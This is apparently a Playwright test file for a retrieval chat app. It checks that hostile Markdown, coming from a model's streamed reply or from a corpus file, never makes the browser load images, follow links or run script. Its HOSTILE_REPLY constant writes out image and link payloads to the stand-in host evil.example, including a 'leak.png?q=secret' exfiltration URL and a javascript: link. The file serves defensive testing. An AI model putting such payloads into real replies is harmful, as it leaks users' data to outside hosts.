"""Hostile Markdown from a language model or a corpus file never makes the browser load or link anything.

The browser has no network here: a request to evil.example would fail, but Playwright still reports
it, and a page script records any element pointing there (even one a Content-Security-Policy stops).
"""

from __future__ import annotations

import re
import shutil

import pytest

from .conftest import REPLY_WAIT_MS, ROOT, send_chat
from .fake_ollama import FakeOllama
from .servers import serve_apps
from .test_hostile_corpus import CLINIC

pytestmark = [pytest.mark.browser, pytest.mark.server]

GROUNDED = "No, LLMs are built specifically for text-based tasks and do not create images or videos on their own."
HOSTILE_REPLY = (
    f"![x](https://evil.example/leak.png?q=secret) {GROUNDED} [1] [click](javascript:alert(1)) "
    '<img src="https://evil.example/tag.png"> [more](https://evil.example/more) ![y](https://evil.example/late.png)'
)

# Records, from the first moment of the page, every element that points at evil.example (or runs
# script from a link) and every Content-Security-Policy report about it.
WATCH = """
window.__evil = [];
const note = (what) => window.__evil.push(what);
const check = (el) => {
  for (const attr of ['src', 'href', 'srcset', 'poster', 'data']) {
    const value = (el.getAttribute && el.getAttribute(attr)) || '';
    if (value.includes('evil.example') || value.trim().toLowerCase().startsWith('javascript:')) note(`${el.tagName} ${attr}=${value}`);
  }
};
document.addEventListener('securitypolicyviolation', (e) => {
  if ((e.blockedURI || '').includes('evil.example')) note(`csp ${e.blockedURI}`);
}, true);
new MutationObserver((mutations) => {
  for (const m of mutations) {
    const nodes = m.type === 'attributes' ? [m.target] : [...m.addedNodes];
    for (const node of nodes) {
      if (node.nodeType !== 1) continue;
      check(node);
      node.querySelectorAll('[src],[href],[srcset],[poster],[data]').forEach(check);
    }
  }
}).observe(document, {subtree: true, childList: true, attributes: true,
                      attributeFilter: ['src', 'href', 'srcset', 'poster', 'data']});
"""


@pytest.fixture
def page(chromium):
    page = chromium.new_page(viewport={"width": 1280, "height": 900})
    page.evil_requests = []  # every request the page makes to evil.example, from before it loads
    page.on("request", lambda r: page.evil_requests.append(r.url) if "evil.example" in r.url else None)
    page.dialogs = []
    page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
    page.add_init_script(WATCH)
    return page


def _assert_nothing_evil(page) -> None:
    assert page.evil_requests == [], page.evil_requests
    assert page.evaluate("window.__evil") == []
    assert page.locator("img[src*='evil.example']").count() == 0
    assert page.locator("a[href*='evil.example']").count() == 0
    assert page.dialogs == []


@pytest.fixture(scope="module")
def apps(tmp_path_factory, built_index, clinic_index):
    """Both servers, started together: one whose answerer is a model writing `HOSTILE_REPLY`, and one whose
    corpus has `clinic.md` (on a copy of conftest's `clinic_index`, the index of that very corpus)."""
    with FakeOllama(reply=HOSTILE_REPLY, word_delay=0.15) as fake:
        llm_dir, clinic_dir = tmp_path_factory.mktemp("llm"), tmp_path_factory.mktemp("clinic")
        corpus = clinic_dir / "corpus"
        shutil.copytree(ROOT / "corpus", corpus)
        (corpus / "clinic.md").write_text(CLINIC, encoding="utf-8")
        llm_env = {"BOT_LLM": "ollama", "BOT_OLLAMA_BASE_URL": fake.url, "BOT_OLLAMA_MODEL": "fake"}
        specs = [
            {"tmp_path": llm_dir, "env": llm_env, "index_from": built_index.index_dir},
            {"tmp_path": clinic_dir, "env": {"BOT_CORPUS_DIR": str(corpus)}, "index_from": clinic_index.index_dir},
        ]
        with serve_apps(*specs) as (llm, clinic):
            yield {"fake": fake, "llm": llm, "clinic": clinic}


def test_streamed_llm_answer_never_shows_an_image_or_link_from_the_model(apps, page, tmp_path):
    fake, (url, log_path) = apps["fake"], apps["llm"]
    page.goto(url)
    send_chat(page, "Can LLMs make images?")
    # Seen while the model is still writing (the stream takes several seconds) ...
    page.get_by_text("No, LLMs are built specifically", exact=False).first.wait_for(timeout=REPLY_WAIT_MS)
    streaming = page.evaluate("window.__evil")
    # ... and after the checked answer replaced it.
    page.locator("a.element-link").first.wait_for(timeout=REPLY_WAIT_MS)  # a cited source
    page.wait_for_timeout(1_500)
    page.screenshot(path=str(tmp_path / "llm-answer.png"), full_page=True)
    assert streaming == []
    _assert_nothing_evil(page)
    final = page.get_by_text(GROUNDED, exact=False).first
    assert "[1]" in final.inner_text()
    assert any(r["path"] == "/api/chat" for r in fake.requests)
    assert "Traceback" not in log_path.read_text()


def test_corpus_images_and_links_are_never_loaded_in_the_answer_or_the_source_panel(apps, page, tmp_path):
    url, log_path = apps["clinic"]
    page.goto(url)
    send_chat(page, "Who says language models help clinics summarise patient letters?")
    footnote = page.locator("li", has_text=re.compile(r"Acme Health › .*“Clinic briefing”")).first
    footnote.wait_for(timeout=REPLY_WAIT_MS)
    source = footnote.locator("a.element-link")
    page.get_by_text("says language models help clinics summarise patient letters", exact=False).first.wait_for()
    source.click()
    page.get_by_text("Clinic staff check each draft reply", exact=False).first.wait_for(state="visible", timeout=15_000)
    page.wait_for_timeout(1_500)
    page.screenshot(path=str(tmp_path / "corpus-source-open.png"), full_page=True)
    _assert_nothing_evil(page)
    assert "Traceback" not in log_path.read_text()


def test_a_colon_before_a_letter_is_shown_not_taken_for_a_directive(apps, page):
    """The page's Markdown reads ":wards" in "git.clinic.example:wards/rota.git" as a directive and showed the
    address with ":wards" gone, an empty element in its place (a tester's clone command failed when pasted)."""
    url, _log_path = apps["clinic"]
    page.goto(url)
    send_chat(page, "Where does the duty nurse clone the rota repository from?")
    answer = page.get_by_text("clones the rota repository", exact=False).first
    answer.wait_for(timeout=REPLY_WAIT_MS)
    assert "git.clinic.example:wards/rota.git" in answer.inner_text(), answer.inner_text()
